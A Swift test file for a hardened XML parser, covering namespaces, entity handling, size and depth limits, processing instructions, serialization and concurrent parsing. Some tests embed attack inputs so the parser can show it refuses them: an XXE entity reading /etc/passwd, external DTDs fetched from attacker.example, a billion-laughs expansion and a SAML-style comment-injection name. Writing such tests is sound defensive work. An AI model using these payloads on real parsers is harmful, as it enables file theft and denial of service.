import Foundation
import Testing

@testable import SigilXML

@Suite("Hardened parser")
struct XMLDocumentParserTests {
    @Test func keepsPrefixesDeclarationsAndResolvesNamespaces() throws {
        let doc = try XMLDocumentParser.parse(
            Data(
                """
                <p:root xmlns:p="urn:p" xmlns="urn:d" a="1" p:b="2"><child xmlns="" c="3"/><p:x/></p:root>
                """.utf8))
        #expect(doc.root.prefix == "p")
        #expect(doc.root.localName == "root")
        #expect(doc.root.namespaceURI == "urn:p")
        #expect(
            Set(doc.root.namespaceDeclarations) == [DOMNamespaceDeclaration(prefix: "p", uri: "urn:p"), DOMNamespaceDeclaration(prefix: nil, uri: "urn:d")])
        #expect(doc.root.attribute("a") == "1")
        #expect(doc.root.attribute("b", namespaceURI: "urn:p") == "2")
        let children = doc.root.childElements
        #expect(children[0].namespaceURI == nil)
        #expect(children[0].namespaceDeclarations == [DOMNamespaceDeclaration(prefix: nil, uri: "")])
        #expect(children[1].namespaceURI == "urn:p")
    }

    @Test func commentInjectionDoesNotTruncateText() throws {
        let doc = try XMLDocumentParser.parse(Data("<r><NameID>admin@x.com<!---->.evil.com</NameID></r>".utf8))
        let nameID = try #require(doc.root.firstChild(named: "NameID", namespaceURI: nil))
        #expect(nameID.text == "admin@x.com.evil.com")
        #expect(doc.root.textContent == "admin@x.com.evil.com")
        #expect(nameID.children == [.text("admin@x.com"), .comment(""), .text(".evil.com")])
    }

    @Test func textDecodesReferencesAndMergesCDATA() throws {
        let doc = try XMLDocumentParser.parse(Data("<r>a &lt;&amp;&#xD;&#x41;<![CDATA[<b>]]>c</r>".utf8))
        #expect(doc.root.children == [.text("a <&\rA<b>c")])
    }

    @Test func refusesDoctype() {
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data("<!DOCTYPE r><r/>".utf8)) }
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data("<?xml version=\"1.0\"?>\n<!doctype r [ ]><r/>".utf8)) }
    }

    @Test func refusesExternalEntityXXE() {
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <r>&xxe;</r>
            """
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data(xxe.utf8)) }
        let parameter = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/x.dtd\"> %p;]><r/>"
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data(parameter.utf8)) }
        let external = "<!DOCTYPE r SYSTEM \"http://attacker.example/x.dtd\"><r/>"
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data(external.utf8)) }
    }

    @Test func refusesBillionLaughs() {
        var s = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
        for i in 1...9 { s += "<!ENTITY lol\(i) \"" + String(repeating: "&lol\(i == 1 ? "" : String(i - 1));", count: 10) + "\">\n" }
        s += "]>\n<lolz>&lol9;</lolz>"
        expectXMLError(.doctypeForbidden) { _ = try XMLDocumentParser.parse(Data(s.utf8)) }
    }

    @Test func refusesUndeclaredEntityReference() {
        expectXMLError(.entityForbidden) { _ = try XMLDocumentParser.parse(Data("<r>&xxe;</r>".utf8)) }
        expectXMLError(.entityForbidden) { _ = try XMLDocumentParser.parse(Data("<r a=\"&xxe;\"/>".utf8)) }
    }

    @Test func declarationsInsideCommentsAndCDATAAreText() throws {
        let doc = try XMLDocumentParser.parse(Data("<r><!-- <!DOCTYPE x> --><![CDATA[<!ENTITY y>]]></r>".utf8))
        #expect(doc.root.text == "<!ENTITY y>")
    }

    @Test func refusesOversizedInput() {
        var options = XMLParserOptions()
        options.maxBytes = 1000
        let big = "<r>" + String(repeating: "a", count: 1000) + "</r>"
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data(big.utf8), options: options) }
        let overDefault = "<r>" + String(repeating: "<a>x</a>", count: (1 << 20) / 8 + 1) + "</r>"
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data(overDefault.utf8)) }
    }

    @Test func refusesTooDeep() throws {
        let ok = String(repeating: "<a>", count: 64) + String(repeating: "</a>", count: 64)
        _ = try XMLDocumentParser.parse(Data(ok.utf8))
        let deep = String(repeating: "<a>", count: 65) + String(repeating: "</a>", count: 65)
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data(deep.utf8)) }
    }

    @Test func refusesTooManyAttributes() throws {
        let attrs = (0..<65).map { "a\($0)=\"\($0)\"" }.joined(separator: " ")
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data("<r \(attrs)/>".utf8)) }
        let fine = (0..<64).map { "a\($0)=\"\($0)\"" }.joined(separator: " ")
        #expect(try XMLDocumentParser.parse(Data("<r \(fine)/>".utf8)).root.attributes.count == 64)
    }

    @Test func refusesTooLongText() {
        var options = XMLParserOptions()
        options.maxTextBytes = 100
        let s = "<r>" + String(repeating: "x", count: 60) + "<![CDATA[" + String(repeating: "y", count: 60) + "]]></r>"
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data(s.utf8), options: options) }
    }

    @Test func refusesTooManyElements() {
        var options = XMLParserOptions()
        options.maxElements = 10
        expectXMLError(.limitExceeded) { _ = try XMLDocumentParser.parse(Data(("<r>" + String(repeating: "<a/>", count: 10) + "</r>").utf8), options: options) }
    }

    @Test func processingInstructionPolicy() throws {
        let s = Data("<?xml version=\"1.0\"?><r><?pi data?></r>".utf8)
        expectXMLError(.processingInstructionForbidden) { _ = try XMLDocumentParser.parse(s) }
        var options = XMLParserOptions()
        options.processingInstructions = .keep
        #expect(try XMLDocumentParser.parse(s, options: options).root.children == [.processingInstruction(target: "pi", data: "data")])
        // Without data: refused up front (FoundationXML's XMLParser crashes on it on Linux).
        expectXMLError(.processingInstructionForbidden) { _ = try XMLDocumentParser.parse(Data("<r><?pi?></r>".utf8), options: options) }
        expectXMLError(.processingInstructionForbidden) { _ = try XMLDocumentParser.parse(Data("<r/><?pi   ?>".utf8), options: options) }
        // A malformed XML declaration cannot hide a data-less one behind it (the fuzz run's crash:
        // the check skipped to the first `?>`, which ended the hidden instruction).
        for options in [XMLParserOptions(), options] {
            expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("<?xml vVe: S><?xmlns:?>ttp\n".utf8), options: options) }
            expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("<?xml version=\"1.0\"><r/>".utf8), options: options) }
        }
        #expect(try XMLDocumentParser.parse(Data("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><r/>".utf8)).root.localName == "r")
        // `<?` inside comments and CDATA is text.
        #expect(try XMLDocumentParser.parse(Data("<r><!--<?a?>--><![CDATA[<?b?>]]></r>".utf8)).root.text == "<?b?>")
    }

    @Test func refusesNamespaceErrors() throws {
        expectXMLError(.undeclaredPrefix) { _ = try XMLDocumentParser.parse(Data("<p:r/>".utf8)) }
        expectXMLError(.undeclaredPrefix) { _ = try XMLDocumentParser.parse(Data("<r p:a=\"1\"/>".utf8)) }
        expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("<r xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\"/>".utf8)) }
        // libxml2 drops these invalid declarations itself (a non-fatal namespace error), so they
        // never reach the tree: `xml` stays bound to its namespace and `p` stays unbound.
        let rebound = try XMLDocumentParser.parse(Data("<r xmlns:xml=\"urn:not-xml\" xml:lang=\"en\"/>".utf8))
        #expect(rebound.root.namespaceDeclarations.isEmpty)
        #expect(rebound.root.attribute("lang", namespaceURI: XMLNamespace.xml) == "en")
        #expect(try XMLDocumentParser.parse(Data("<r xmlns:p=\"\"/>".utf8)).root.namespaceDeclarations.isEmpty)
        expectXMLError(.undeclaredPrefix) { _ = try XMLDocumentParser.parse(Data("<r xmlns:p=\"\"><p:x/></r>".utf8)) }
    }

    @Test func refusesMalformedAndOtherEncodings() {
        expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("<r><a></r>".utf8)) }
        expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("<r a=\"1\" a=\"2\"/>".utf8)) }
        expectXMLError(.malformed) { _ = try XMLDocumentParser.parse(Data("".utf8)) }
        expectXMLError(.unsupportedEncoding) { _ = try XMLDocumentParser.parse(Data("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>".utf8)) }
        expectXMLError(.unsupportedEncoding) { _ = try XMLDocumentParser.parse(Data([0xFF, 0xFE, 0x3C, 0x00, 0x72, 0x00, 0x2F, 0x00, 0x3E, 0x00])) }
        expectXMLError(.unsupportedEncoding) { _ = try XMLDocumentParser.parse(Data([0x3C, 0x72, 0x3E, 0xC3, 0x28, 0x3C, 0x2F, 0x72, 0x3E])) }
    }

    @Test func serializationRoundTrips() throws {
        let source = "<p:r xmlns:p=\"urn:p\" a=\"x&#9;y&#xA;\"><p:c>t &amp; &#xD;u<!--c--></p:c><e/></p:r>"
        let doc = try XMLDocumentParser.parse(Data(source.utf8))
        let again = try XMLDocumentParser.parse(doc.serialized())
        #expect(again == doc)
        #expect(String(decoding: doc.serialized(xmlDeclaration: false), as: UTF8.self) == source.replacingOccurrences(of: "&#9;", with: "&#x9;"))
    }
}

@Suite("Parser under concurrency")
struct XMLDocumentParserConcurrencyTests {
    @Test func concurrentParsesGiveTheSameTrees() async throws {
        let docs = (0..<8).map { i in
            Data("<p:r xmlns:p=\"urn:p\" n=\"\(i)\"><p:a>text \(i) &amp; more<!--c\(i)--> tail \(i)</p:a><b x=\"\(i)\"/></p:r>".utf8)
        }
        let expected = try docs.map { try XMLDocumentParser.parse($0) }
        try await withThrowingTaskGroup(of: Bool.self) { group in
            for round in 0..<64 {
                let i = round % docs.count
                let doc = docs[i], want = expected[i]
                group.addTask { try XMLDocumentParser.parse(doc) == want }
            }
            for try await same in group { #expect(same) }
        }
    }
}
